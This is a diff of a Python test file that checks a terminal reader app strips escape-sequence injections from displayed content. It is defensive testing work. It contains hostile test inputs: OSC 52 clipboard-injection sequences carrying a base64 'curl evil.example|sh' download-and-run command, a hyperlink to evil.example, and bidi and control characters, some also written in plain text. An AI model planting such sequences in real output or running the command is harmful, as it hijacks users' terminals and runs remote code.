@@ -6,21 +6,23 @@ whatever is left after those are taken out must be plain text.
 
 from __future__ import annotations
 
-import json
+import base64
 import os
 import re
+from collections.abc import Callable
+from functools import cache
 from pathlib import Path
 
 import pytest
-import yaml
 from textual.widgets import Input, TextArea
 
 from briefing.language.safety import safe
 from briefing.reader.kit.field import SAFELY, LineField
 from briefing.reader.kit.note_field import Lines
+from tests.attacks import watched
 from tests.attacks.terminal import Terminal
+from tests.attacks.walks import ATTACKS, TEXT, WALKS, fed, prepared, walked
 from tests.reader.conftest import Open, open_reader, screen_text, settle, shipped
-from tests.samples import BRIEFING, Made, sample
 
 OWN = re.compile(
     rb"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI: places, colours, modes
@@ -29,94 +31,75 @@ OWN = re.compile(
     rb"|\x1b[=>78cHM]|\x1b\([0B]"
 )
 OBEYED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]")
-ATTACKS = (
-    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
-    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\",
-    "\x1b]0;a title\x07",
-    "\x1b]8;;https://evil.example\x1b\\",
-    "\x1bP0;1|17/ab\x1b\\",
-    "\x1b[2J",
-    "\x9b2J",
-    "\x9d52;c;QQ==\x9c",
-    "\x07\x08\x7f",
-    "\u202eabc\u2066",
-)
-TEXT = "see " + " ".join(ATTACKS) + " above"
 __all__ = ["open_reader", "shipped"]  # fixtures
 pytestmark = pytest.mark.skipif(os.name != "posix", reason="needs a pseudo-terminal")
 
 
+COPIED = re.compile(rb"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07")  # into the clipboard, where a person asked for it
+PAYLOADS = ("curl evil.example|sh", "A")  # what the attacks would put there
+PACKAGE = Path(__file__).resolve().parents[2] / "briefing"
+
+
 def left(raw: bytes) -> list[str]:
     """What a terminal would still obey once the reader's own sequences are taken out, with some text around it."""
-    text = OWN.sub(b"", raw).decode("utf-8", "replace")
+    text = OWN.sub(b"", COPIED.sub(_copied, raw)).decode("utf-8", "replace")
     return [text[max(0, at.start() - 30) : at.end() + 30] for at in OBEYED.finditer(text)]
 
 
-def fed(root: Path) -> Made:
-    """A briefing whose every field attacks: frame, cast, articles, corrections, clippings and their notes."""
-    made = sample(root)
-    frame = yaml.safe_load((made.folder / "briefing.yaml").read_text(encoding="utf-8"))
-    frame.update(title=f"Title {TEXT}", summary=TEXT, subject=TEXT, made=TEXT)
-    for outlet in frame["outlets"]:
-        outlet["name"] += TEXT
-    made.file("briefing.yaml", yaml.safe_dump(frame))
-    cast = yaml.safe_load((made.folder / "actors.yaml").read_text(encoding="utf-8"))
-    for actor in cast:
-        actor["aliases"] = [*actor["aliases"], f"Alias {TEXT}"]
-        actor["roles"] = [{"title": f"Role {TEXT}"}]
-    made.file("actors.yaml", yaml.safe_dump(cast))
-    for path in sorted((made.folder / "articles").iterdir()):
-        _, front, body = path.read_text(encoding="utf-8").split("---\n", 2)
-        fields = yaml.safe_load(front)
-        fields.update(
-            headline=f"Headline {TEXT}", byline=TEXT, via=TEXT, embargo=TEXT, origin=TEXT, published="2025-02"
-        )
-        body = body.replace("night", f"night {ATTACKS[0]} {ATTACKS[6]}")
-        path.write_text(f"---\n{yaml.safe_dump(fields)}---\n{body}\n{TEXT}\n", encoding="utf-8", newline="")
-    first = sorted(path.stem for path in (made.folder / "articles").iterdir())[0]
-    clip = {"kind": "article", "target": first, "title": f"T {TEXT}", "note": f"N {TEXT}\nsecond {TEXT}"}
-    made.file("clippings/basket.yaml", yaml.safe_dump([clip, {**clip, "target": f"gone {TEXT}"}]))
-    at = [{"article": first, "exact": f"x {TEXT}", "before": TEXT, "after": TEXT}]
-    made.file("corrections.yaml", yaml.safe_dump([{"kind": "title", "at": at, "value": TEXT, "note": TEXT}]))
-    return made
+def _copied(found: re.Match[bytes]) -> bytes:
+    """Nothing, where the reader copied a text that is safe; else what was found."""
+    text = base64.b64decode(found[1]).decode("utf-8", "replace")
+    return found[0] if text in PAYLOADS or text != safe(text) else b""
 
 
-ESC = "\x1b"
-WALKS = {
-    "panes and filter": ["1", "2", "3", "j", "j", "/", "sail", ESC, "?", ESC],
-    "basket and note": ["b", "m", "x", "\x13", "j", "m", ESC, "n", ESC, "K", "d", "u"],
-    "comparing and title": ["3", "c", "\t", "t", "h", "d", ESC, "l", "t", ESC, ESC],
-    "export": ["e", "\x12", ESC, "\t", "\t", ESC],
-    "jump, palette, briefings": ["g", "a", ESC, "\x10", "e", ESC, "o", ESC],
-    "problems, proposals, corrections, import": ["p", ESC, "P", ESC, "A", "\r", ESC, "C", ESC, "i", "x", ESC, "I", ESC],
-    "speaker and actor": ["3", "w", ESC, "s", ESC, "2", "\r", ESC, "T"],
-}
+@pytest.fixture(scope="module")
+def shown(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], frozenset[str]]:
+    """Goes a walk, once, and looks at every byte that was sent; returns the places whose screens were shown."""
+
+    @cache
+    def gone(walk: str) -> frozenset[str]:
+        folder = tmp_path_factory.mktemp("walk")
+        made = fed(folder / "workspace")
+        home, log = folder / "home", folder / "log"
+        prepared(home)
+        command = ("-P", str(Path(watched.__file__)))
+        with Terminal(home, made.workspace.root, command=command, env={"WATCHED": str(log)}) as terminal:
+            terminal.until("3 Quotes 4")
+            terminal.settle()
+            walked(terminal, WALKS[walk], folder)
+            assert left(terminal.raw) == []
+            assert "␛" in terminal.text, "the hostile words were there to be shown"
+        return frozenset(log.read_text(encoding="utf-8").split("\n"))
+
+    return gone
 
 
-@pytest.mark.timeout(180)
+@pytest.mark.slow
+@pytest.mark.timeout(300)
 @pytest.mark.parametrize("walk", WALKS)
-def test_no_byte_that_a_terminal_obeys_is_sent(tmp_path: Path, walk: str) -> None:
-    made = fed(tmp_path / "workspace")
-    home = tmp_path / "home"
-    recent = {"briefing": BRIEFING, "theme": TEXT, "places": {BRIEFING: TEXT}, "recents": {BRIEFING: [["actor", TEXT]]}}
-    (home / "state" / "briefing").mkdir(parents=True)
-    (home / "state" / "briefing" / "reader.json").write_text(json.dumps(recent), encoding="utf-8")
-    (home / "config" / "briefing").mkdir(parents=True)
-    settings = {"theme": TEXT, TEXT: TEXT, "keys": {TEXT: TEXT, "reader.search": TEXT}}
-    (home / "config" / "briefing" / "config.yaml").write_text(yaml.safe_dump(settings), encoding="utf-8")
-    with Terminal(home, made.workspace.root) as terminal:
-        terminal.until("3 Quotes 4")
-        terminal.settle()
-        for keys in WALKS[walk]:
-            terminal.keys(keys)
-        terminal.keys("\x11")
-        terminal.ended()
-        assert left(terminal.raw) == []
-        assert "␛" in terminal.text, "the hostile words were there to be shown"
+def test_no_byte_that_a_terminal_obeys_is_sent(walk: str, shown: Callable[[str], frozenset[str]]) -> None:
+    assert shown(walk)
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(3600)
+def test_the_walks_show_every_screen_and_every_question(shown: Callable[[str], frozenset[str]]) -> None:
+    """A new screen, or a question that is asked in a new place, needs a walk in `walks.py`."""
+    seen = frozenset[str]().union(*map(shown, WALKS))
+    assert watched.places(PACKAGE) - seen == set()
+
+
+def test_a_place_that_makes_a_screen_is_found_wherever_it_stands(tmp_path: Path) -> None:
+    (tmp_path / "reader").mkdir()
+    code = "def ask():\n    def then():\n        new(lambda: AskScreen('x'))\n    PickScreen(then)\n"
+    (tmp_path / "reader" / "new.py").write_text(code, encoding="utf-8")
+    assert watched.places(tmp_path) == {"reader/new.py:<lambda>:AskScreen", "reader/new.py:ask:PickScreen"}
 
 
 def test_what_is_looked_for_would_be_found() -> None:
     """Without this, a search that finds nothing would let everything pass."""
+    assert left(b"\x1b]52;c;bmlnaHQ=\x07") == [], "a safe text that was copied"
+    assert left(b"\x1b]52;c;ChtdMA==\x07"), "one that is not"
     for attack in ATTACKS:
         if attack != "\x1b[2J":  # the reader's own kind of sequence: only `safe` tells whose it is
             assert left(f"\x1b[1;1H{attack}".encode()), attack
